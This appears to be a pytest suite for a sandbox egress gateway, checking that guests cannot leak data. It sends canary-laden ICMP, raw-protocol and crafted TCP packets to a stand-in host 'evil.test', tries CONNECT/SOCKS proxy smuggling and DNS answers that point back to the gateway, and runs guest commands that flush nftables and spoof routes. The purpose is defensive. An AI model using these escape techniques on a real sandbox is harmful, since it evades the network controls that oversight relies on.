async def test_t14_icmp_carries_nothing(outside: World, policy: object) -> None:
    guest = await outside.guest(policy)
    source = guest.network.guest_address
    with guest.wire() as wire, outside.origins.wire() as world:
        to = guest.gateway_hardware
        answers: list[bytes] = []
        # The kernel sends so many refusals a second, to all whom it refuses something.
        for _ in range(MOST_ROUNDS):
            for kind in (8, 0, 13, 15, 17, 5, 3, 11):
                for address in (EVIL, API, guest.network.host_address, OURS):
                    message = struct.pack("!BBHHH", kind, 4 if kind == 3 else 0, 0, 1, 1) + CANARY.encode()
                    message = message[:2] + struct.pack("!H", packets.checksum(message)) + message[4:]
                    for ttl in (1, 64):
                        wire.send_ipv4(ipv4(source, address, 1, message, ttl=ttl), to)
            await settle(outside, guest)
            assert not [frame for frame in world.received() if CANARY.encode() in frame]
            answers += [packet for packet in parts(wire.received()) if packet[9] == 1]
            if answers:
                break
            await asyncio.sleep(1)
            await guest.policy(policy)
        # To questions the answer is a refusal; to errors there is none. Nothing echoes.
        assert {(packet[20], packet[21]) for packet in answers} == {(3, 13)}
    assert outside.origins.seen().is_silent


@pytest.mark.parametrize("policy", ["allow-all", RANGE], ids=["allow-all", "range"])
@pytest.mark.defence("kernel-drop")
async def test_t15_only_tcp_and_udp_exist(outside: World, policy: object) -> None:
    guest, other = await outside.guest(policy), await outside.guest("allow-all")
    source = guest.network.guest_address
    numbers = [number for number in range(256) if number not in (1, 6, 17)]
    inner = ipv4(source, EVIL, 17, udp((source, 4000), (EVIL, 123), CANARY.encode()))
    with guest.wire() as wire, outside.origins.wire() as world, other.wire() as neighbour:
        for number in numbers:
            for address in (EVIL, other.network.guest_address):
                wire.send_ipv4(ipv4(source, address, number, inner), guest.gateway_hardware)
        await settle(outside, guest)
        assert not [frame for frame in world.received() + neighbour.received() if CANARY.encode() in frame]
        # The kernel says so to one address a few times a second at most, and others may have had them.
        refusals: set[int] = set()
        async with asyncio.timeout(DEADLINE_S):
            while not refusals:
                refusals |= {
                    packet[29 + 8] for packet in parts(wire.received()) if packet[9] == 1 and packet[20:22] == b"\x03\x0d"
                }
                wire.send_ipv4(ipv4(source, EVIL, numbers[-1], inner), guest.gateway_hardware)
                await asyncio.sleep(0.05)
        assert refusals <= set(numbers)
    assert outside.origins.seen().is_silent


# -- TCP -----------------------------------------------------------------------------------------------


@pytest.mark.defence("kernel-drop", "kernel-hand-others")
async def test_t16_the_other_side_sees_only_what_the_gateway_wrote(outside: World) -> None:
    guest = await outside.guest(RANGE)
    outside.origins.script(f"{EVIL}:8080", echo=True)
    source = guest.network.guest_address
    with guest.wire() as wire, outside.origins.wire() as world:
        to = guest.gateway_hardware
        for flags in (SYN, SYN | packets.PUSH, SYN | packets.FIN, SYN | packets.RST, 0, packets.FIN, ACK, SYN | ACK, 0xFF):
            wire.send_ipv4(ipv4(source, EVIL, 6, tcp((source, 4000 + flags), (EVIL, 8080), flags, CANARY.encode())), to)
        loop = asyncio.get_running_loop()
        with guest.socket(socket.SOCK_STREAM) as stream:
            await loop.sock_connect(stream, (EVIL, 8080))
            stream.send(b"before")
            stream.send(b"!", socket.MSG_OOB)
            stream.send(b"after")
            stream.shutdown(socket.SHUT_WR)
            found = b""
            async with asyncio.timeout(5):
                # Half closed: the answer still comes.
                while chunk := await loop.sock_recv(stream, 100):
                    found += chunk
        assert found == b"beforeafter"
        seen = await outside.origins.wait(lambda seen: b"after" in seen.data, "the bytes did not arrive")
        assert [connection["data"] for connection in seen.connections if connection["data"]] == [b"beforeafter"]
        for packet in parts(world.received()):
            if packet[9] == 6 and packet[16:20] == socket.inet_aton(EVIL):
                head = packet[20:]
                assert not head[13] & 0x20, "urgent data"
                assert not (head[13] & SYN and len(packet) > 20 + (head[12] >> 4) * 4), "data in a SYN"
    assert CANARY.encode() not in outside.origins.seen().data


class Raw:
    """A connection of a guest segment by segment, whose own kernel knows nothing of it."""

    def __init__(self, wire: packets.Link, guest: Guest, port: int, to: tuple[str, int]) -> None:
        self.wire = wire
        self.ours = (guest.network.guest_address, port)
        self.theirs = to
        self.hardware = guest.gateway_hardware
        self.sequence, self.acknowledged = 1000, 0

    def send(self, flags: int, payload: bytes = b"") -> None:
        segment = tcp(self.ours, self.theirs, flags, payload, self.sequence, self.acknowledged)
        self.wire.send_ipv4(ipv4(self.ours[0], self.theirs[0], 6, segment), self.hardware)
        self.sequence += len(payload) + bool(flags & (SYN | packets.FIN))

    async def received(self) -> tuple[int, bytes]:
        """Flags and payload of the next segment to it."""
        async with asyncio.timeout(5):
            while True:
                for packet in parts(self.wire.received()):
                    if packet[9] == 6 and packet[20:24] == struct.pack("!HH", self.theirs[1], self.ours[1]):
                        flags, sequence, _, payload = packets.read_tcp(packet)
                        self.acknowledged = sequence + len(payload) + bool(flags & (SYN | packets.FIN))
                        return flags, payload
                await asyncio.sleep(0.001)

    async def open(self) -> None:
        self.send(SYN)
        flags, _ = await self.received()
        assert flags & (SYN | ACK) == SYN | ACK
        self.send(ACK)


@pytest.mark.defence("kernel-drop", "kernel-hand-others")
async def test_t16_both_sides_opening_is_no_way_in(outside: World) -> None:
    guest = await outside.guest({"subnets": {"allow": [f"{SHARED}/32"]}})
    await guest.silence()
    with guest.wire() as wire, outside.origins.wire() as world:
        refused = Raw(wire, guest, 4001, (EVIL, 8080))
        refused.send(SYN)
        flags, _ = await refused.received()
        assert flags & (SYN | ACK) == SYN | ACK
        # As if both had begun: in place of the last segment of a handshake an answer to the other side's first one.
        refused.sequence -= 1
        refused.send(SYN | ACK, CANARY.encode())
        await refused.received()
        # And an answer to what nobody asked, where connections are allowed.
        allowed = Raw(wire, guest, 4002, (SHARED, 80))
        allowed.send(SYN | ACK, CANARY.encode())
        assert (await allowed.received())[0] & packets.RST
        await settle(outside, guest)
        gone = [packet for packet in parts(world.received()) if packet[9] == 6]
    assert [packet for packet in gone if packet[16:20] in map(socket.inet_aton, (EVIL, SHARED))] == []
    assert outside.origins.seen().connections == []


@pytest.mark.defence("kernel-drop", "kernel-hand-others")
async def test_t16_nothing_after_the_end_arrives(outside: World) -> None:
    guest = await outside.guest(RANGE)
    await guest.silence()
    outside.origins.script(f"{EVIL}:8080", echo=True)
    with guest.wire() as wire, outside.origins.wire() as world:
        for port, end in enumerate((packets.FIN | ACK, packets.RST | ACK), 4010):
            raw = Raw(wire, guest, port, (EVIL, 8080))
            await raw.open()
            raw.send(PUSH | ACK, b"before")
            # It comes back once it has arrived.
            while (await raw.received())[1] != b"before":
                pass
            raw.send(end)
            raw.send(PUSH | ACK, CANARY.encode())
            await outside.origins.wait(lambda seen: all(c["ended"] for c in seen.to(EVIL) if c["data"]), "the end did not arrive")
        await settle(outside, guest)
        assert not [frame for frame in world.received() if CANARY.encode() in frame]
    assert outside.origins.seen().data == b"before" * 2


@pytest.mark.defence("unnamed-flows")
@pytest.mark.section("14.2")
async def test_t17_what_has_no_name_is_closed_and_never_passed(outside: World) -> None:
    named, any_name = await outside.guest({"allow": ["api.test"]}), await outside.guest({"allow": ["*"]})
    outside.origins.script(f"{API}:22", first=b"SSH-2.0-test\r\n")
    silent, speaking, greeted = await asyncio.gather(
        named.connect(API, 22, wait_s=8), named.connect(API, 22, b"SSH-2.0-mine\r\n"), any_name.connect(API, 22, wait_s=8)
    )
    assert (silent.end, 2.5 < silent.took_s < 4.5) == ("ECONNRESET", True)
    assert (speaking.end, speaking.took_s < AT_ONCE_S) == ("ECONNRESET", True)
    # Under `*` whoever waits for the server's greeting gets it, after the gateway has waited for the client's.
    assert (greeted.end, greeted.data) == ("data", b"SSH-2.0-test\r\n")
    assert len(outside.origins.seen().to(API)) == 1
    record = await named.audited(kind="tcp", decision="deny")
    assert (record["reason"], record["origDst"], record["generation"]) == ("no_name", f"{API}:22", 1)
    record = await any_name.audited(kind="tcp", decision="allow")
    assert (record["reason"], record["mode"]) == ("no_name", "splice")


@pytest.mark.parametrize(
    "policy", ["deny-all", {"allow": ["*", "api.test"]}, EVERYTHING, "allow-all"], ids=["deny", "names", "range", "all"]
)
@pytest.mark.defence("smtp")
async def test_t18_smtp_is_closed_under_every_policy(outside: World, policy: object) -> None:
    guest = await outside.guest(policy)
    found = await guest.connect(EVIL, 25, b"EHLO guest\r\n")
    assert (found.end, found.took_s < AT_ONCE_S) == ("ECONNRESET", True)
    assert outside.origins.seen().is_silent
    record = await guest.audited(kind="tcp", decision="deny")
    assert (record["reason"], record["origDst"], record["generation"]) == ("smtp", f"{EVIL}:25", 1)


@pytest.mark.defence("hard-deny", "kernel-gateway")
async def test_t19_the_gateway_is_nobodys_proxy(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"], "defaults": {"plaintextHttp": True}})
    here = guest.network.host_address
    port = gateway_ports(outside)[0]
    loop = asyncio.get_running_loop()
    requests = (
        b"CONNECT evil.test:443 HTTP/1.1\r\nhost: evil.test:443\r\n\r\n",
        b"GET http://evil.test/ HTTP/1.1\r\nhost: evil.test\r\n\r\n",
        b"\x05\x01\x00",
    )
    for request in requests:
        for at in (*PROXY_PORTS[1:], port):
            assert (await guest.connect(here, at, request)).end == "ECONNRESET"
        # From this machine, which is no sandbox: the listener takes nobody it does not know.
        # What it says to them, a reset, may be lost: the kernel lets its user send nothing to this machine's addresses.
        with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream, contextlib.suppress(ConnectionError, TimeoutError):
            stream.setblocking(False)
            await loop.sock_connect(stream, ("127.0.0.1", port))
            await loop.sock_sendall(stream, request)
            assert await asyncio.wait_for(loop.sock_recv(stream, 100), 0.3) == b""
    # From elsewhere its address is not even one.
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as stream, pytest.raises(ConnectionRefusedError):
        stream.setblocking(False)
        await asyncio.wait_for(loop.sock_connect(stream, (OURS, port)), 2)
    seen = outside.origins.seen()
    assert seen.is_silent
    assert "evil.test" not in seen.questions
    assert (await guest.audited(kind="tcp", origDst=f"{here}:8080"))["reason"] == "hard_deny"


@pytest.mark.defence("host-is-name")
async def test_t19_proxy_requests_to_an_allowed_name_are_refused(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"], "defaults": {"plaintextHttp": True}})
    found = await guest.connect(API, 80, b"CONNECT evil.test:443 HTTP/1.1\r\nhost: api.test\r\n\r\n")
    assert found.data.startswith((b"HTTP/1.1 405", b"HTTP/1.1 421", b"HTTP/1.1 400")), found
    found = await guest.connect(API, 80, b"GET http://evil.test/ HTTP/1.1\r\nhost: api.test\r\n\r\n")
    assert found.data.startswith(b"HTTP/1.1 421"), found
    seen = outside.origins.seen()
    assert not seen.data
    assert "evil.test" not in seen.questions


@pytest.mark.defence("hard-deny", "kernel-gateway")
async def test_t20_a_name_that_leads_back_to_us_is_refused(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    for address in (OURS, guest.network.host_address, "127.0.0.1", "0.0.0.0"):
        outside.origins.answer("api.test", address)
        # Another policy, so that nothing is remembered.
        await guest.policy({"allow": ["api.test", f"x{guest.generation}.test"]})
        with listening("0.0.0.0", 8443) as (server, port):
            found = await guest.connect(EVIL, port, hello("api.test"))
            assert found.end == "ECONNRESET"
            assert nobody_came(server)
        record = await guest.audited(kind="tls", generation=guest.generation)
        assert record["reason"] == ("self" if address in (OURS, "127.0.0.1") else "address_class")
        reply = await guest.ask(question("api.test"))
        assert reply is not None
        assert (reply.code, reply.records) == (NO_SUCH_NAME, [])
    assert outside.origins.seen().is_silent


# -- time ----------------------------------------------------------------------------------------------


def chained(records: list[str]) -> bool:
    """Whether records follow each other by number and by hash."""
    previous, number = "0" * 64, 0
    for raw in records:
        record = json.loads(raw)
        if (record["seq"], record["prev"]) != (number + 1, previous):
            return False
        previous, number = hashlib.sha256(raw.encode()).hexdigest(), number + 1
    return True


@pytest.mark.defence("policies-again")
async def test_t21_a_killed_gateway_lets_nothing_pass_and_is_back_with_the_same_policies(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"], "subnets": {"allow": [f"{SHARED}/32"]}})
    await guest.policy({"allow": ["api.test"], "subnets": {"allow": [f"{API}/32"]}})
    assert (await guest.connect(EVIL, 443, hello("evil.test"))).end == "ECONNRESET"
    await guest.audited(kind="tls", decision="deny")
    table = outside.networks._names.table
    loop = asyncio.get_running_loop()
    outside.origins.script(f"{API}:80", echo=True)
    with guest.socket(socket.SOCK_STREAM) as stream:
        await loop.sock_connect(stream, (API, 80))
        await loop.sock_sendall(stream, b"x")
        assert await loop.sock_recv(stream, 10) == b"x"
        pid = gateway_pid(outside)
        os.kill(pid, signal.SIGKILL)
        killed = loop.time()
        ends = set()
        while True:
            ends.add((await guest.connect(EVIL, 8080, b"x", wait_s=2)).end)
            again = await guest.connect(API, 80, b"again", wait_s=2)
            rules = kernel.run(["nft", "list", "table", "inet", table])
            assert guest.network.guest_address in rules
            assert "tproxy" in rules
            if again.data == b"again":
                break
            assert again.end in REFUSED, again
            assert loop.time() - killed < DEADLINE_S
        assert ends <= REFUSED
        async with asyncio.timeout(2):
            with contextlib.suppress(ConnectionResetError):
                assert await loop.sock_recv(stream, 10) == b""
    assert gateway_pid(outside) != pid
    seen = outside.origins.seen()
    assert not seen.to(EVIL)
    # What held before the last update is not what came back.
    assert (await guest.connect(SHARED, 80, b"x")).end == "ECONNRESET"
    assert (await guest.connect(EVIL, 443, hello("evil.test"))).end == "ECONNRESET"
    record = await guest.audited(origDst=f"{SHARED}:80", decision="deny")
    assert record["generation"] == 2
    records, _ = await outside.audit.read(guest.sandbox_id, 0, 1000)
    assert chained(records)
    assert outside.gateway.restarts == 1


@pytest.mark.defence("kernel-drop", "kernel-hand")
async def test_t22_a_network_is_closed_before_anybody_knows_it(outside: World) -> None:
    network = await outside.networks.take()
    early = Guest(outside, network, "early", outside.directory)
    try:
        found = await asyncio.gather(
            *(early.connect(EVIL, port, HTTP) for port in (80, 443, 8080)), early.connect(API, 443, HTTP)
        )
        assert {outcome.end for outcome in found} <= REFUSED
        assert (await early.datagram(EVIL, 123, wait_s=0.2)).end in {"timeout", "ECONNREFUSED"}
        assert await early.ask(question("api.test"), wait_s=0.2) is None
        seen = outside.origins.seen()
        assert seen.is_silent
        assert not seen.questions
    finally:
        await outside.networks.give_back(network)


@pytest.mark.defence("kernel-drop")
async def test_t22_before_there_is_a_gateway_everything_is_refused(outside: World) -> None:
    guest = await outside.guest("allow-all")
    # As before `hand_to`: the chain that hands packets over is empty.
    kernel.run(["nft", "flush", "chain", "inet", outside.networks._names.table, "hand"])
    found = await guest.connect(EVIL, 8080, HTTP)
    assert (found.end, found.took_s < AT_ONCE_S) == ("ECONNREFUSED", True)
    found = await guest.datagram(EVIL, 123)
    assert (found.end, found.took_s < AT_ONCE_S) == ("ECONNREFUSED", True)
    assert outside.origins.seen().is_silent


@pytest.mark.defence("ended-sandboxes")
async def test_t22_whoever_gets_an_address_inherits_nothing(outside: World) -> None:
    guest = await outside.guest("allow-all")
    outside.origins.script(f"{EVIL}:8080", echo=True)
    loop = asyncio.get_running_loop()
    with guest.socket(socket.SOCK_STREAM) as open_one, guest.socket(socket.SOCK_STREAM) as undecided:
        await loop.sock_connect(open_one, (EVIL, 8080))
        await loop.sock_sendall(open_one, b"x")
        assert await loop.sock_recv(open_one, 10) == b"x"
        # A connection whose first bytes are still awaited when its sandbox ends.
        await guest.policy({"allow": ["*"], "subnets": {"allow": [f"{EVIL}/32"]}})
        await loop.sock_connect(undecided, (API, 443))
        own = outside.gateway._known[guest.network.guest_address].add
        await outside.gateway.remove(guest.network)
        with pytest.raises(ConnectionResetError):
            await asyncio.wait_for(loop.sock_recv(open_one, 10), 5)
        await outside.gateway._call("sandbox.add", own)
        with contextlib.suppress(OSError):
            await loop.sock_sendall(undecided, hello("api.test"))
            assert await asyncio.wait_for(loop.sock_recv(undecided, 10), 5) == b""
    assert (await guest.connect(EVIL, 8080, b"y")).end == "ECONNRESET"
    assert outside.origins.seen().data == b"x"
    assert not outside.origins.seen().to("api.test")


@pytest.mark.defence("domain-patterns")
@pytest.mark.defence("kernel-source")
@pytest.mark.section("14.2")
async def test_t23_a_guest_that_edits_its_own_network_changes_nothing(outside: World) -> None:
    guest = await outside.guest({"allow": ["api.test"]})
    here = guest.network.host_address
    edits = f"""
    nft flush ruleset
    nft add table ip t
    nft 'add chain ip t o {{ type nat hook output priority -100; }}'
    nft add rule ip t o ip daddr {EVIL} dnat to {API}
    nft flush ruleset
    ip addr add 198.51.100.99/24 dev eth0
    ip neigh replace {here} lladdr {guest.gateway_hardware.hex(":")} dev eth0
    ip route replace {EVIL} via {here} src 198.51.100.99
    ip rule add pref 10 lookup main
    echo 1 > /proc/sys/net/ipv4/ip_forward
    echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6
    ip route replace default via {here}
    """
    await guest.run("sh", "-c", edits)
    before = counted(outside, "spoofed")
    assert (await guest.connect(EVIL, 443, hello("evil.test"), wait_s=1)).end in {"timeout", *REFUSED}
    assert counted(outside, "spoofed") > before, "the guest's own rules had no effect, and nothing was tried"
    await guest.run("ip", "route", "del", EVIL)
    await guest.run("ip", "addr", "del", "198.51.100.99/24", "dev", "eth0")
    assert (await guest.connect(EVIL, 443, hello("evil.test"))).end == "ECONNRESET"
    assert outside.origins.seen().is_silent
    assert await guest.audited(kind="tls", name="evil.test", reason="domain_deny")
    ran = await guest.curl("https://api.test/")
    assert ran.out == "ok\n200", ran


async def test_nothing_is_left_in_the_kernel(outside: World) -> None:
    network = await outside.networks.take()
    table = outside.networks._names.table

    def bound() -> str:
        return kernel.run(["nft", "list", "set", "inet", table, "bound"]) + kernel.run(
            ["nft", "list", "set", "arp", table, "bound"]
        )

    assert bound().count(f'"{network.link}"') == 2
    await outside.networks.give_back(network)
    wait_until(lambda: f'"{network.link}"' not in bound(), 5, "the address is still bound")
